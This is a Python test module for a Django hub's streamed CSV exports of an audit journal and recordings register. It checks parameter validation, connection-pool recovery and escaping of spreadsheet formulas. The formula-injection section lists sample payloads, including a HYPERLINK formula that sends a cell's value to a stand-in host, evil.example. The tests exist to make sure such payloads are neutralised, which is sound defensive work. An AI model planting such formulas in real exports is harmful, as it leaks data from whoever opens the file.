"""Streamed answers (the CSV exports of the access journal and of the register, file downloads)
cannot take the hub down: their parameters are checked before the first byte, a failure half
way ends the file with a line that says so, and every path gives the database connection back.

The outage these tests guard against: an export whose query failed inside the stream left
Daphne without an answer to send and kept its pooled database connection for good; a few
such requests and every later request waited for a connection that never came back.
"""

from __future__ import annotations

import csv
import datetime as dt
import http.client
import io
import json
import secrets
import urllib.error
import urllib.request

import pytest
from django.utils import timezone

from partners.audit import Action, audit
from partners.models import AuditRecord
from partners.services import api_token_issue
from recordings.requisitions import requisition_create
from tests import factories
from tests.realtime.processes import daphne_log, daphnes

AUDIT = "/api/audit/"
REGISTER = "/api/streaming/register/"
PASSWORD = "correct horse battery"


@pytest.fixture(autouse=True)
def _fast_passwords():
    """Overrides the suite's MD5 hasher: the Daphne processes check passwords with their own
    settings, which do not know MD5."""


def get(port: int, path: str, *, token: str | None = None) -> tuple[int, str, bytes]:
    """``(status, content type, body)``; a server that never answers fails the test, not hangs it."""
    request = urllib.request.Request(f"http://127.0.0.1:{port}{path}",
                                     headers={"Authorization": f"Bearer {token}"} if token else {})
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            return answer.status, answer.headers.get("Content-Type", ""), answer.read()
    except urllib.error.HTTPError as error:
        return error.code, error.headers.get("Content-Type", ""), error.read()


def post_json(port: int, path: str, body: dict) -> tuple[int, dict]:
    request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", method="POST",
                                     data=json.dumps(body).encode(),
                                     headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            return answer.status, json.loads(answer.read())
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read() or b"{}")


@pytest.mark.django_db(transaction=True)
def test_fifty_failing_exports_then_everyone_signs_in_as_usual(tmp_path):
    """The probe's outage, on a real Daphne with a pool of 4 connections: 50 exports that fail
    (a NUL byte, a date that is not one) each get a 400 JSON answer, and the hub stays up."""
    auditor = factories.make_member(role="auditor")
    operator = factories.make_member(role="operator", password=PASSWORD)
    audit_token, _ = api_token_issue(user=auditor.user)
    register_token, _ = api_token_issue(user=operator.user)
    audit(action=Action.LOGIN, actor=operator.user, reason="=1+1")
    failing = [
        (AUDIT + "?export=csv&q=%00", audit_token, "q"),
        (AUDIT + "?export=csv&actor=a%00b", audit_token, "actor"),
        (AUDIT + "?export=csv&since=yesterday", audit_token, "since"),
        (REGISTER + "?export=csv&camera=%00", register_token, "camera"),
        (REGISTER + "?export=csv&until=2026-13-45", register_token, "until"),
    ]
    with daphnes(1, tmp_path=tmp_path, env={"DB_POOL_MIN": "1", "DB_POOL_MAX": "4"}) as (port,):
        for n in range(50):
            path, token, field = failing[n % len(failing)]
            status, content_type, body = get(port, path, token=token)
            assert status == 400, (n, path, status, body[:200], daphne_log(tmp_path)[-1500:])
            assert content_type.startswith("application/json"), (path, content_type)
            answer = json.loads(body)
            assert answer["error"] == "invalid" and field in answer["detail"], (path, answer)

        status, answer = post_json(port, "/api/auth/token/",
                                   {"username": operator.user.username, "password": PASSWORD})
        assert status == 201 and answer["token"], answer
        assert get(port, "/healthz")[0] == 200
        status, content_type, body = get(port, AUDIT + "?export=csv", token=audit_token)
        assert status == 200 and content_type.startswith("text/csv")
        assert len(list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))) >= 2


@pytest.mark.django_db(transaction=True)
def test_clients_that_leave_in_the_middle_of_a_download_give_their_connection_back(tmp_path):
    """Ten clients hang up after the first bytes of a large export; the pool has 4
    connections, and afterwards a full export and a sign-in still work."""
    auditor = factories.make_member(role="auditor", password=PASSWORD)
    token, _ = api_token_issue(user=auditor.user)
    now = timezone.now()
    # Rows written directly: what is streamed is the point here, not the hash chain.
    AuditRecord.objects.bulk_create([
        AuditRecord(at=now - dt.timedelta(seconds=i), actor_username=f"agent-{i}", action=Action.LOGIN,
                    reason="x" * 120, prev_hash=secrets.token_hex(32), hash=secrets.token_hex(32))
        for i in range(12_000)], batch_size=4000)
    with daphnes(1, tmp_path=tmp_path, env={"DB_POOL_MIN": "1", "DB_POOL_MAX": "4"}) as (port,):
        for _ in range(10):
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
            connection.request("GET", AUDIT + "?export=csv", headers={"Authorization": f"Bearer {token}"})
            answer = connection.getresponse()
            assert answer.status == 200
            assert answer.read(4096)
            connection.sock.close()  # gone, without reading the rest
            connection.close()

        status, content_type, body = get(port, AUDIT + "?export=csv", token=token)
        assert status == 200, daphne_log(tmp_path)[-1500:]
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
        assert len(rows) == 1 + 12_000  # the header, then every record: nothing cut
        status, answer = post_json(port, "/api/auth/token/",
                                   {"username": auditor.user.username, "password": PASSWORD})
        assert status == 201, answer


# --- The same rules through the test client -------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(("url", "role", "params", "field"), [
    (AUDIT, "auditor", {"q": "\x00"}, "q"),
    (AUDIT, "auditor", {"actor": "op\x00"}, "actor"),
    (AUDIT, "auditor", {"action": "login,\x00"}, "action"),
    (AUDIT, "auditor", {"object_id": "\x00"}, "object_id"),
    (AUDIT, "auditor", {"since": "2026-02-30T10:00"}, "since"),
    (AUDIT, "auditor", {"until": "\x00"}, "until"),
    (REGISTER, "operator", {"camera": "\x00"}, "camera"),
    (REGISTER, "operator", {"kind": "hold\x00"}, "kind"),
    (REGISTER, "operator", {"since": "demain"}, "since"),
])
def test_a_bad_export_parameter_is_a_400_before_the_file_starts(api, url, role, params, field):
    member = factories.make_member(role=role)
    answer = api.as_member(member).get(url, {"export": "csv", **params})
    assert answer.status_code == 400, answer
    assert not answer.streaming and answer["Content-Type"] == "application/json"
    assert answer.json()["error"] == "invalid" and field in answer.json()["detail"]
    # The lists read the same parameters, and refuse them the same way.
    assert api.get(url, params).status_code == 400


@pytest.mark.django_db
def test_an_export_that_fails_half_way_says_so_on_its_last_line(api, monkeypatch, area):
    operator = factories.make_member(role="operator")
    from recordings import register

    def rows(filters):
        yield ["hold", "2026-01-01T10:00:00+01:00"] + [""] * (len(register.COLUMNS) - 2)
        raise RuntimeError("the database went away")

    monkeypatch.setattr(register, "register_rows", rows)
    answer = api.as_member(operator).get(REGISTER, {"export": "csv"})
    assert answer.status_code == 200
    lines = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode("utf-8-sig"))))
    assert lines[0] == register.COLUMNS and lines[1][0] == "hold"
    assert len(lines) == 3 and "incomplet" in lines[2][0]


@pytest.mark.django_db
def test_an_export_whose_first_query_fails_is_an_error_answer_not_a_broken_file(api, monkeypatch):
    auditor = factories.make_member(role="auditor")
    from recordings import register

    def rows(filters):
        raise RuntimeError("the database went away")
        yield []

    monkeypatch.setattr(register, "register_rows", rows)
    with pytest.raises(RuntimeError):  # the test client re-raises what would be a 500 JSON answer
        api.as_member(auditor).get(REGISTER, {"export": "csv"})


# --- Formula injection -------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Cliquez ici")', "+33 1 23", "-2+3", "@SUM(A1:A9)"]


def csv_cells(answer) -> list[str]:
    raw = b"".join(answer.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(raw)) for cell in row]


@pytest.mark.django_db
def test_what_a_spreadsheet_would_run_is_written_as_text_in_the_journal_export(api, anon_api):
    auditor = factories.make_member(role="auditor")
    for username in FORMULAS:  # failed logins journal the username as typed
        anon_api.post("/api/auth/token/", {"username": username, "password": "x"}, format="json")
    cells = csv_cells(api.as_member(auditor).get(AUDIT, {"export": "csv"}))
    for formula in FORMULAS:
        assert formula not in cells, formula
        assert "'" + formula in cells, formula
    # The JSON list keeps what was typed, as it was typed.
    listed = {r["actor"] for r in api.get(AUDIT, {"action": Action.LOGIN_FAILED}).json()}
    assert set(FORMULAS) <= listed


@pytest.mark.django_db
def test_what_a_spreadsheet_would_run_is_written_as_text_in_the_register_export(api, area):
    operator = factories.make_member(role="operator")
    camera = factories.make_camera(code="cam-formula")
    start = timezone.now() - dt.timedelta(hours=2)
    requisition_create(created_by=operator.user, requesting_officer="@SUM(A1:A9)",
                       service=FORMULAS[0], procedure_number="=1+1", legal_basis="", cameras=[camera],
                       window_start=start, window_end=start + dt.timedelta(minutes=5))
    cells = csv_cells(api.as_member(operator).get(REGISTER, {"export": "csv"}))
    assert "'" + FORMULAS[0] in cells and FORMULAS[0] not in cells
    assert "'=1+1" in cells and "=1+1" not in cells
    # Numbers and dates are left as they are.
    assert any(cell.startswith(str(timezone.localdate(start).year)) for cell in cells)
